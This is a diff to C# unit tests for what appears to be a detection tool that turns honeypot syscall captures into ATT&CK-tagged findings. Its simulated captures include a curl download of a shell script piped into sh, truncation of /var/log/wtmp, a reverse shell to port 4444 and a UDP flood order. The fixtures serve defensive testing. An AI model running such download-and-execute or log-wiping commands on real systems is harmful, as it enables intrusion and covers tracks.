@@ -34,7 +34,7 @@ public sealed class FindingTests
     [InlineData("took_false_name", "T1036.005", 4, "/usr/local/apache/bin/httpd -DSSL is perl .sloboz.pdf")]
     [InlineData("took_orders", "T1071", 3, "@udp1 203.0.113.150 800 3")]
     [InlineData("flooded", "T1498", 20_484, "203.0.113.150 with 20,484 datagrams")]
-    [InlineData("wiped_logs", "T1070.002", 8, "/var/log/wtmp, /var/log/lastlog")]
+    [InlineData("wiped_logs", "T1070.002", 7, "/var/log/wtmp, /var/log/lastlog")]
     public void A_finding_has_its_technique_its_count_and_what_it_was_about(string kind, string technique, int count, string what)
     {
         var finding = Findings(StoryRun.OnHoneypot("story", json: true)).First(f => f.GetProperty("kind").GetString() == kind);
@@ -132,6 +132,33 @@ public sealed class FindingTests
         var finding = Assert.Single(Findings(StoryRun.On(capture, "story", json: true)));
         Assert.Equal("reverse_shell", finding.GetProperty("kind").GetString());
         Assert.Contains("203.0.113.5:4444", finding.GetProperty("what").GetString());
+    }
+
+    [Fact]
+    public void A_log_of_logins_is_wiped_by_emptying_it_but_not_by_touching_it()
+    {
+        const uint Write = 1 << 1, Create = 1 << 2, NonBlocking = 1 << 6, Truncate = 1 << 8;
+        var capture = Session();
+        capture.Openat(102, 3, "/var/log/wtmp", flags: Write | Create | NonBlocking).Close(102, 3);
+        Assert.Equal(Calm, StoryRun.On(capture, "story"));
+        capture = Session();
+        capture.Openat(102, 3, "/var/log/wtmp", flags: Write | Create | Truncate).Close(102, 3);
+        Assert.Contains("wiped logs: /var/log/wtmp", StoryRun.On(capture, "story"));
+    }
+
+    [Fact]
+    public void A_shell_fed_by_a_download_through_a_pipe_runs_it()
+    {
+        var capture = Session();
+        const ulong Pipe = 77;
+        capture.Event(EventCode.SyscallPipeE, 102).Event(EventCode.SyscallPipeX, 102, I64(0), I64(5), I64(6), U64(Pipe));
+        Command(capture, 110, "/usr/bin/curl", "curl", "http://198.51.100.9/x.sh");
+        capture.TcpSocket(110, 3).Connect(110, 3, "198.51.100.20:4000", "198.51.100.9:80").Read(110, 3, "#!/bin/sh")
+            .Event(EventCode.SyscallWriteE, 110, I64(6), U32(4)).Event(EventCode.SyscallWriteX, 110, I64(4), Calls.Bytes("#!/x"));
+        capture.Clone(102, 111, "bash").Dup(111, 5, 0).Execve(111, "/bin/sh", "sh").Read(111, 0, "#!/x");
+        Removes(capture, 102, "/var/log/wtmp");
+        var finding = Findings(StoryRun.On(capture, "story", json: true)).Single(f => f.GetProperty("kind").GetString() == "ran_download");
+        Assert.Contains("198.51.100.9:80 through a pipe", finding.GetProperty("what").GetString());
     }
 
     [Fact]
